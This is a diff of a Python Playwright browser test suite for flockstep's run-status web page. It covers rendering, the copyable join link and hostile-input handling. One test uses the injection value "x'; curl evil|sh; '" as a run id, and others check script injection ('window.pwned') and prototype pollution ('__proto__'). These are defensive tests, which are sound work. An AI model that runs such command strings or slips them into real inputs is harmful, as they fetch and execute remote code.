@@ -1,7 +1,5 @@
 """The page in a real browser: what it shows, what a stranger's texts may not do, and who can use it."""
 
-import copy
-import json
 import random
 import re
 import shutil
@@ -13,9 +11,11 @@ import pytest
 from flockstep.collectives.picture.fold import VOTED
 from flockstep.peer.base.troubles import NEEDS_PROGRAM
 from flockstep.peer.log.telemetry import Telemetry
-from flockstep.scripts.page.delta import operations_between
+from flockstep.scripts.page.page import unseen
 from flockstep.scripts.page.server import PageServer
+from flockstep.scripts.page.shown import NAMED_BEFORE, Page, PictureSplitter
 from support.fake_runs import FakeRun, peer_id
+from support.pictures import big_picture
 
 CHROMIUM = next(filter(None, map(shutil.which, ("chromium", "chromium-browser", "google-chrome"))), None)
 playwright = pytest.importorskip("playwright.sync_api", reason="playwright drives the browser (the extra `dev`)")
@@ -60,6 +60,7 @@ def opened(browser: Any) -> Iterator[Open]:
         context = browser.new_context(**{"viewport": DESKTOP, **options})
         contexts.append(context)
         page = context.new_page()
+        page.add_init_script("const wait = setTimeout; globalThis.setTimeout = (work, ms) => wait(work, ms / 40);")
         if silent:
             page.on("console", lambda message: complaints.append(message.text))
         page.on("pageerror", lambda error: complaints.append(str(error)))
@@ -70,7 +71,8 @@ def opened(browser: Any) -> Iterator[Open]:
     yield opened_
     for context in contexts:
         context.close()
-    assert complaints == []
+    lost = ("net::ERR_", "Failed to fetch")  # The server of a test may end before its page.
+    assert [text for text in complaints if not any(part in text for part in lost)] == []
 
 
 @pytest.fixture
@@ -99,12 +101,12 @@ def test_the_page_shows_a_run_and_each_change_of_it(opened: Open, server: PageSe
     assert "parser.run(arguments)" in page.inner_text("#sample")
     row = page.locator("#rounds tbody tr").first.element_handle()
     run.advance()
-    server.publish(run.picture)
+    server.publish(Page(run.picture))
     expect(page.locator("#progress-text")).to_have_text(re.compile("^round 21 "))
     assert page.locator("#rounds tbody th").first.inner_text() == "21"
     assert row.evaluate("row => row.isConnected && row.cells[0].textContent") == "20"  # It moved, as the element it was.
     run.advance(19)
-    server.publish(run.picture)
+    server.publish(Page(run.picture))
     expect(page.locator("#state")).to_have_text("over")
     assert page.inner_text("#reason") == "All rounds are done"
 
@@ -114,7 +116,7 @@ def test_the_page_of_a_run_that_takes_a_program_shows_how_and_the_link_alone(ope
         page = opened(server.url)
         assert page.inner_text("#join-how") == str(NEEDS_PROGRAM)
         assert page.inner_text("#join-line").startswith("flockstep://bafyrun")
-        server.publish(run.picture)
+        server.publish(Page(run.picture))
         expect(page.locator("#join-how")).to_contain_text("any network, no open port")
         expect(page.locator("#join-line")).to_contain_text("flockstep join 'flockstep://bafyrun")
 
@@ -136,7 +138,7 @@ def test_a_visitor_reads_what_the_run_is_and_nothing_that_only_auditors_check(
     about = {"by": "Ada Example", "contact": "ada@example.org", "data": "text:{stdlib}", "members": members}
     untimed = {**picture["rounds"], "time": [None] * len(picture["rounds"]["time"])}
     waits = {**picture["progress"], "state": "waiting", "reason": "waits for its owner"}
-    server.publish({**picture, **about, "rounds": untimed, "progress": waits, "evaluations": alone})
+    server.publish(Page({**picture, **about, "rounds": untimed, "progress": waits, "evaluations": alone}))
     asked = "on Python's standard library, in 40 rounds, asked for by Ada Example, ada@example.org ~"
     expect(page.locator("#what")).to_contain_text(asked)
     expect(page.locator("#reason.notice")).to_have_text("Waits for its owner")
@@ -183,7 +185,7 @@ def test_whatever_strangers_write_is_text(opened: Open, server: PageServer, run:
         evil["progress"] = {**picture["progress"], "reason": text, "state": text}
         rows = 2 + number % 2  # Another number each time: so this text is shown, and not the one before.
         evil["recent"] = [{**row, "out": [{"peer": 0, "reason": text}]} for row in picture["recent"][:rows]]
-        server.publish({**picture, **evil})
+        server.publish(Page({**picture, **evil}))
         expect(page.locator("#rounds tbody tr")).to_have_count(rows)
         assert page.evaluate(count) == before
         assert page.evaluate("window.pwned") is None
@@ -265,7 +267,7 @@ def test_the_line_to_join_is_copied(opened: Open, server: PageServer) -> None:
 
 def test_a_name_is_not_taken_for_the_mark_of_a_vote(opened: Open, server: PageServer, run: FakeRun) -> None:
     page, members = opened(server.url), run.picture["members"]
-    server.publish({**run.picture, "members": [{**member, "name": "◆ ada"} for member in members]})
+    server.publish(Page({**run.picture, "members": [{**member, "name": "◆ ada"} for member in members]}))
     marks = "cells => cells.map(cell => [cell.firstChild.textContent, cell.querySelector('.own').textContent])"
     expect(page.locator("#people tbody .own").first).to_have_text("◆ ada")
     shown = page.locator("#people tbody th").evaluate_all(marks)
@@ -277,7 +279,7 @@ def test_who_comes_late_reads_since_when_evaluations_were_seen(opened: Open, ser
     page, (*_, last) = opened(server.url), run.picture["evaluations"]
     expect(page.locator("#samples-since")).to_have_text("")
     late = [{**last, "round": round_} for round_ in (45, 50, 60)]
-    server.publish({**run.picture, "evaluations": late})
+    server.publish(Page({**run.picture, "evaluations": late}))
     expect(page.locator("#samples-since")).to_have_text(" Seen here since round 45.")
 
 
@@ -285,7 +287,7 @@ def test_what_one_drawn_member_states_is_marked_as_its_word(opened: Open, server
     page, (*_, last) = opened(server.url), run.picture["evaluations"]
     expect(page.locator("#scrub-text")).to_contain_text("two members state this text ~")
     expect(page.locator("#tiles")).to_contain_text("held-out loss ~")
-    server.publish({**run.picture, "evaluations": [{**last, "by": [peer_id(3)]}]})
+    server.publish(Page({**run.picture, "evaluations": [{**last, "by": [peer_id(3)]}]}))
     expect(page.locator("#scrub-text")).to_contain_text("alone states it ~")
     expect(page.locator("#tiles")).to_contain_text("stated by 1;")
 
@@ -293,9 +295,9 @@ def test_what_one_drawn_member_states_is_marked_as_its_word(opened: Open, server
 def test_what_is_no_link_cannot_be_copied(opened: Open, server: PageServer, run: FakeRun) -> None:
     page = opened(server.url)
     for run_id in ("x'; curl evil|sh; '", "", "b" * 51, "b" * 52 + "\n"):
-        server.publish(run.picture)
+        server.publish(Page(run.picture))
         expect(page.locator("#join-line")).to_contain_text("flockstep join")
-        server.publish({**run.picture, "link": f"flockstep://{run_id}?via=/ip4/192.0.2.7/tcp/4001/p2p/{peer_id(99)}"})
+        server.publish(Page({**run.picture, "link": f"flockstep://{run_id}?via=/ip4/192.0.2.7/tcp/4001/p2p/{peer_id(99)}"}))
         expect(page.locator("#join-line")).to_have_text("The link of this run is not known yet.")
         assert page.locator("#copy").is_disabled()
 
@@ -324,7 +326,7 @@ def test_no_label_and_no_table_is_cut(opened: Open, server: PageServer, run: Fak
     named = {"name": "a name of sixty-four characters " * 2, "device": "NVIDIA GeForce RTX 4090 Laptop GPU"}
     rounds = {**picture["rounds"], "loss": [loss + 1000 for loss in picture["rounds"]["loss"]]}
     members = [{**one, **named} for one in picture["members"]]
-    server.publish({**picture, "rounds": rounds, "members": members, "evaluations": []})
+    server.publish(Page({**picture, "rounds": rounds, "members": members, "evaluations": []}))
     expect(page.locator("#chart-text")).to_contain_text("from 1004.")
     assert page.evaluate("document.documentElement.scrollWidth") <= width
     cut = """() => [...document.querySelectorAll(".wide")]
@@ -341,7 +343,7 @@ def test_who_comes_late_reads_from_which_round_on_figures_are(opened: Open, serv
     assert "from round" not in page.inner_text("#credit-text")
     columns = {name: column[4:] for name, column in picture["rounds"].items()}
     columns["loss"] = [None, None, *columns["loss"][2:]]
-    server.publish({**picture, "rounds": columns, "evaluations": []})
+    server.publish(Page({**picture, "rounds": columns, "evaluations": []}))
     expect(page.locator("#credit-text")).to_have_text("The tokens that certificates count, from round 5 on.")
     expect(page.locator("#tiles")).to_contain_text(" in round 7")
     expect(page.locator("#chart-text")).to_contain_text(" in round 7 to ")
@@ -371,27 +373,24 @@ CONTRAST = """() => {
 """The elements whose text has too little contrast (WCAG 2.1, 1.4.3)."""
 
 
-def test_a_browser_applies_differences_as_python_does(opened: Open, server: PageServer) -> None:
-    chance, run = random.Random(0), FakeRun(peers=5)
-    pictures: list[Any] = [[], {"a": 1, "__proto__": {"b": 2}}, {"__proto__": {"b": [3]}}, [{"n": 1}], [{"n": 0}, {"n": 1}]]
-    for _ in range(15):
-        run.advance(chance.randrange(1, 4))
-        pictures.append(run.picture)
-    pictures += [[chance.randrange(9) for _ in range(chance.randrange(30))] for _ in range(30)]
-    steps = [
-        [json.dumps(old), json.dumps(list(operations_between(old, new))), json.dumps(new)]
-        for old, new in zip(pictures, copy.deepcopy(pictures[1:]), strict=False)
-        if isinstance(old, list) == isinstance(new, list)
-    ]
-    page = opened(server.url)
-    wrong = """async (steps) => { const { apply } = await import("./static/patch.js");
-      return steps.filter(([old, operations, wanted]) => {
-        const value = JSON.parse(old); apply(value, JSON.parse(operations));
-        const same = (a, b) => typeof a !== "object" || a === null ? a === b :
-          Object.keys(a).length === Object.keys(b).length &&
-          Object.keys(a).every((key) => Object.hasOwn(b, key) && same(a[key], b[key]));
-        return !same(value, JSON.parse(wanted)); }); }"""
-    assert page.evaluate(wrong, steps) == []
+def test_a_page_fetches_older_rounds_once_and_shows_them_beside_the_newest(opened: Open) -> None:
+    pictures, splitter = [big_picture(peers=5, rounds=rounds) for rounds in (300, 301)], PictureSplitter("v")
+    with PageServer("127.0.0.1:0", Telemetry(), root=unseen("looking")) as server:
+        server.publish(splitter.split(pictures[0]))
+        page, asked = opened(server.url), list[str]()
+        expect(page.locator("#chart-text")).to_contain_text("300 rounds: ")
+        page.on("request", lambda request: asked.append(request.url.rpartition("/")[2]))
+        server.publish(splitter.split(pictures[1]))
+        expect(page.locator("#chart-text")).to_contain_text("301 rounds: ")
+        page.click("#rounds-more")
+        rounds = page.locator("#rounds tbody th").all_inner_texts()
+        assert rounds == [str(number) for number in range(301, 256 - NAMED_BEFORE, -1)]
+        whys = page.locator("#rounds tbody .why").all_inner_texts()
+        named = {one.peer: one.name for one in pictures[1].members}
+        for why, row in zip(whys, pictures[1].recent, strict=False):
+            left = [named[peer] or peer[-8:] for peer, reason in row.away if reason != VOTED]
+            assert all(name in why for name in left)
+        assert set(asked) == {"picture.json"}
 
 
 def test_a_page_finds_its_server_again(opened: Open, run: FakeRun) -> None:
@@ -408,7 +407,7 @@ def test_the_list_of_runs_leads_to_each(opened: Open, run: FakeRun) -> None:
     progress = {"round": 20, "rounds": 40, "state": "training"}
     runs = [{"run": "bafyone", "name": "one <b>", "model": "gpt", "params": 1e6, **progress}]
     with PageServer("127.0.0.1:0", Telemetry(), root={"runs": runs}, listing=True) as server:
-        server.publish(run.picture, "bafyone")
+        server.publish(Page(run.picture), "bafyone")
         page = opened(server.url)
         lines = [line for line in page.inner_text("#runs").splitlines() if line]
         assert lines == ["one <b>", "gpt, 1M parameters", "training", "round 20 of 40, 50 %"]
